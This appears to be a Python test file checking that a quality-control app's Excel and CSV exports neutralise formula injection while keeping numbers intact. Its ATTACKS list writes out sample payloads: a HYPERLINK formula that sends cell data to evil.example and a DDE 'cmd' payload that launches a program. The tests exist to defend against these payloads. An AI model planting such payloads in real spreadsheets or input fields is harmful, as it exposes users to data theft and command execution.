"""Exports neutralise formula injection (issue 18 §5, OWASP CSV Injection) without changing numbers:
read back with openpyxl (Excel) and the csv module (CSV)."""

from __future__ import annotations

import csv
import io
import subprocess
import sys

import openpyxl
import pytest

from conftest import REPO
from qc.display import column_label
from qc.records.export import export_metrics, neutralise_cell, to_bytes


def L(key: str) -> str:
    """The English export label of a stored column (exports are labelled for the physicist)."""
    return column_label(key, "en")

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def stored(store, machine):
    """One session per attack, each with the attack as its comment and operator."""
    from qc import pipeline
    from qc.registry import get_test

    spec = get_test("helium", store)
    for i, attack in enumerate(ATTACKS):
        import datetime as dt

        analysis = pipeline.record_logged(store, spec, machine, {"helium_level_pct": "72.5"}, acquired_at=dt.datetime(2026, 1, 1 + i, 8))
        pipeline.store_analysis(store, analysis, operator=attack, comment=attack)
    return store


def test_cell_rules():
    assert neutralise_cell("=1+1") == "'=1+1"
    assert neutralise_cell("normal comment") == "normal comment"
    assert neutralise_cell("-1.5") == "-1.5" and neutralise_cell("+3") == "+3"  # numbers as text stay numbers
    assert neutralise_cell(-1.5) == -1.5 and neutralise_cell(None) is None


def test_excel_export_has_no_formula_and_the_same_numbers(stored):
    wb = openpyxl.load_workbook(io.BytesIO(export_metrics(stored, fmt="xlsx", lang="en")))
    ws = wb.active
    header = [c.value for c in ws[1]]
    rows = list(ws.iter_rows(min_row=2))
    assert not [c.coordinate for row in rows for c in row if c.data_type == "f"]
    comments = {row[header.index(L("comment"))].value for row in rows}
    assert comments == {"'" + a.strip() for a in ATTACKS}  # storage strips the typed text
    level = [row for row in rows if row[header.index(L("value"))].value == 72.5]
    assert len(level) == len(ATTACKS)
    assert all(row[header.index(L("value"))].data_type == "n" for row in level)


def test_csv_export_cells_start_with_no_trigger(stored):
    for dialect, sep in (("en", ","), ("fr", ";")):
        text = export_metrics(stored, fmt="csv", lang="en", dialect=dialect).decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(text), delimiter=sep))
        numeric = {L(c) for c in ("value", "nominal", "act_low", "tol_low", "tol_high", "act_high", "session_id", "voided")}
        for row in rows:
            for col, cell in row.items():
                if col not in numeric:
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (col, cell)
        level = [r for r in rows if r[L("value")].replace(",", ".") == "72.5"]
        assert len(level) == len(ATTACKS)
        assert {r[L("operator")] for r in rows} == {"'" + a.strip() for a in ATTACKS}


def test_cli_export_is_neutralised(stored, qc_data_dir, tmp_path):
    out = tmp_path / "x.xlsx"
    res = subprocess.run([sys.executable, "-m", "qc", "--data-dir", str(qc_data_dir), "export", "--format", "xlsx", "-o", str(out)],
                         cwd=REPO, capture_output=True, text=True, timeout=120)
    assert res.returncode == 0, res.stderr
    ws = openpyxl.load_workbook(out).active
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_any_frame_through_to_bytes_is_neutralised():
    import pandas as pd

    df = pd.DataFrame({"a": ATTACKS + ["ok"], "n": [-1.0] * len(ATTACKS) + [2.0]})
    ws = openpyxl.load_workbook(io.BytesIO(to_bytes(df, "xlsx"))).active
    # (XML stores a carriage return as a line feed: compared after the same change)
    got = [ws.cell(row=i + 2, column=1).value for i in range(len(ATTACKS) + 1)]
    assert got == ["'" + a.replace("\r", "\n") for a in ATTACKS] + ["ok"]
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert ws["B2"].value == -1.0 and ws["B2"].data_type == "n"
    rows = list(csv.reader(io.StringIO(to_bytes(df, "csv", dialect="en").decode("utf-8-sig"), newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + a.replace("\r", "\n") for a in ATTACKS] + ["ok"]
    assert rows[1][1] == "-1.0"
